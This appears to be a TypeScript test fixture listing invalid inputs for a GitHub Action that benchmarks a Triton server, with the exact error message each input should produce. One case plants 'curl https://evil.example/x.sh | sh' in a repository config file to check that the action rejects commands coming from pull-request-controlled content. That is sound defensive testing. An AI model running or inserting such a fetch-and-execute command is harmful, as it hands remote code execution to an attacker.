/**
 * Bad action inputs (`with:`), as the runner passes them (`INPUT_MAX-BATCH=...`). Every case
 * fails the step (`::error::`, exit code 1) before any connection to the server: `server-url`
 * is a port that counts connections. `model` is set unless the case is about it.
 */
import { storedRunText } from '../../src/baseline/stored-run.js';
import { makeShardRun, type ShardSpec } from '../support/shard-runs.js';
import type { BadInputCase } from './bad-input-case.js';

/** An Action case: inputs on top of `model`, and files to put in the workspace. */
export interface ActionCase extends BadInputCase {
  readonly inputs: Readonly<Record<string, string>>;
  readonly files?: Readonly<Record<string, string>>;
  /** Leave `model` out of the inputs. */
  readonly isModelUnset?: boolean;
}

const SECRET = 'sekret-XYZ-action-0123';

/** Two shards of one matrix, but measured on two different commits: not one run. */
const SHARDS: ShardSpec = { maxBatch: [8, 16], users: [1], count: 2 };
const SHARD_FILES = {
  'shard-1.json': storedRunText(makeShardRun({ ...SHARDS, sha: '1111111' }, 1)),
  'shard-2.json': storedRunText(makeShardRun({ ...SHARDS, sha: '2222222' }, 2)),
};

export const ACTION_CASES: readonly ActionCase[] = [
  {
    name: 'users range below 1',
    input: 'users',
    value: '0-4',
    exitCode: 1,
    inputs: { users: '0-4' },
    excerpt: `input 'users': got '0-4', expected integers >= 1 ("1,2,4" or "1-10"); '0-4' goes below 1`,
  },
  {
    name: 'duplicate max_batch values',
    input: 'max-batch',
    value: '8,16,8',
    exitCode: 1,
    inputs: { 'max-batch': '8,16,8' },
    excerpt: `input 'max-batch': got '8,16,8', expected integers >= 0, 0 = no batching ("8,16,32,64"); 8 is listed twice`,
  },
  {
    name: 'reversed users range',
    input: 'users',
    value: '10-1',
    exitCode: 1,
    inputs: { users: '10-1' },
    excerpt: `input 'users': got '10-1', expected integers >= 1 ("1,2,4" or "1-10"); range '10-1' is reversed; write '1-10'`,
  },
  {
    name: 'empty item in a list',
    input: 'max-batch',
    value: '8,,16',
    exitCode: 1,
    inputs: { 'max-batch': '8,,16' },
    excerpt: `input 'max-batch': got '8,,16', expected integers >= 0, 0 = no batching ("8,16,32,64"); item 2 is empty`,
  },
  {
    name: 'non-numeric list',
    input: 'users',
    value: 'four',
    exitCode: 1,
    inputs: { users: 'four' },
    excerpt: `input 'users': got 'four', expected integers >= 1 ("1,2,4" or "1-10"); item 1 'four' is not an integer or a range`,
  },
  {
    name: 'negative requests',
    input: 'requests',
    value: '-480',
    exitCode: 1,
    inputs: { requests: '-480' },
    excerpt: `input 'requests': got '-480', expected an integer >= 1; negative numbers are not allowed`,
  },
  {
    name: 'unknown strategy',
    input: 'batch-strategy',
    value: 'relaod',
    exitCode: 1,
    inputs: { 'batch-strategy': 'relaod' },
    excerpt: `input 'batch-strategy': got 'relaod', expected one of reload, models, command, fixed; did you mean 'reload'?`,
  },
  {
    name: 'template without {max_batch}',
    input: 'model-template',
    value: 'resnet_mb',
    exitCode: 1,
    inputs: { 'batch-strategy': 'models', 'model-template': 'resnet_mb' },
    excerpt: `input 'model-template': got 'resnet_mb', expected a model name template containing {max_batch} (e.g. 'resnet_mb{max_batch}'); '{max_batch}' is missing`,
  },
  {
    name: 'HTTP URL instead of the gRPC endpoint',
    input: 'server-url',
    value: 'http://triton:8000',
    exitCode: 1,
    inputs: { 'server-url': 'http://triton:8000' },
    excerpt: `input 'server-url': got 'http://triton:8000', expected host:port, grpc://host:port or grpcs://host:port (e.g. '127.0.0.1:8001'); Triton's gRPC port is 8001 (HTTP is 8000); use 'grpc://host:8001'`,
  },
  {
    name: 'alpha outside (0,1)',
    input: 'alpha',
    value: '1.5',
    exitCode: 1,
    inputs: { alpha: '1.5' },
    excerpt: `input 'alpha': got '1.5', expected a number strictly between 0 and 1 (e.g. '0.05'); did you mean '1.5%'?`,
  },
  {
    name: 'min-effect over 100%',
    input: 'min-effect',
    value: '150%',
    exitCode: 1,
    inputs: { 'min-effect': '150%' },
    excerpt: `input 'min-effect': got '150%', expected a fraction from 0% to under 100% ('5%' or '0.05')`,
  },
  {
    name: 'items-per-request above max_batch',
    input: 'items-per-request',
    value: '16',
    exitCode: 1,
    inputs: { 'items-per-request': '16', 'max-batch': '8,32' },
    excerpt: `input 'items-per-request': got '16', expected <= every non-zero max-batch; max-batch 8 is smaller`,
  },
  {
    name: 'model not given',
    input: 'model',
    value: '',
    exitCode: 1,
    inputs: {},
    isModelUnset: true,
    excerpt: `input 'model': got '', expected a model name (required)`,
  },
  {
    name: 'boolean spelled yes',
    input: 'confirm',
    value: 'yes',
    exitCode: 1,
    inputs: { confirm: 'yes' },
    excerpt: `input 'confirm': got 'yes', expected true or false`,
  },
  {
    name: 'fail-on typo',
    input: 'fail-on',
    value: 'regresion',
    exitCode: 1,
    inputs: { 'fail-on': 'regresion' },
    excerpt: `input 'fail-on': got 'regresion', expected one of regression, never, any-failure; did you mean 'regression'?`,
  },
  {
    name: 'batch-command in the repository config file',
    input: 'batch-command',
    value: '(set in config-file perf.yml)',
    exitCode: 1,
    inputs: { 'config-file': 'perf.yml', 'batch-strategy': 'command' },
    files: { 'perf.yml': 'users: 1-4\nbatch-command: curl https://evil.example/x.sh | sh\n' },
    excerpt: `input 'batch-command': got '(set in config-file perf.yml)', expected no batch-command in a config file; perf.yml is repository content that a pull request can change`,
    note: 'the command text is not repeated (it is the untrusted part)',
    secret: 'evil.example',
  },
  {
    name: 'command strategy from the repository config file',
    input: 'batch-strategy',
    value: 'command',
    exitCode: 1,
    inputs: { 'config-file': 'perf.yml', 'batch-command': './set-max-batch.sh' },
    files: { 'perf.yml': 'users: 1-4\nbatch-strategy: command\n' },
    excerpt: `input 'batch-strategy': got 'command', expected reload, models or fixed in a config file ('command' only from the workflow or the command line)`,
  },
  {
    name: 'header with an uppercase key (a secret)',
    input: 'server-headers',
    value: `Authorization: Bearer <secret>`,
    exitCode: 1,
    inputs: { 'server-headers': `Authorization: Bearer ${SECRET}` },
    excerpt: `input 'server-headers': got '***', expected 'key: value' entries separated by newlines or commas, keys lowercase [a-z0-9-_.] not starting with 'grpc-'; entry 1 has a key with uppercase letters`,
    note: 'the value is masked (`***`); the runner also masks it (`::add-mask::`)',
    secret: SECRET,
  },
  {
    name: 'mode typo',
    input: 'mode',
    value: 'merged',
    exitCode: 1,
    inputs: { mode: 'merged' },
    excerpt: `input 'mode': got 'merged', expected run or merge`,
  },
  {
    name: 'merge mode without shard-results',
    input: 'shard-results',
    value: '',
    exitCode: 1,
    inputs: { mode: 'merge' },
    excerpt: `input 'shard-results': got '', expected the shard jobs' result files or their directory with mode merge`,
  },
  {
    name: 'merging shards of two commits',
    input: 'shard-results',
    value: 'shard-2.json',
    exitCode: 1,
    inputs: { mode: 'merge', 'shard-results': 'shard-1.json, shard-2.json' },
    files: SHARD_FILES,
    excerpt: `input 'shard-results': got 'shard-2.json', expected the result files of every shard of one run; its source.sha is "2222222", shard-1.json has "1111111": not the same run`,
  },
  {
    name: 'lock timeout above a day',
    input: 'lock-timeout-s',
    value: '90000',
    exitCode: 1,
    inputs: { 'lock-timeout-s': '90000' },
    excerpt: `input 'lock-timeout-s': got '90000', expected an integer from 0 to 86400; 90000 is above 86400`,
  },
];
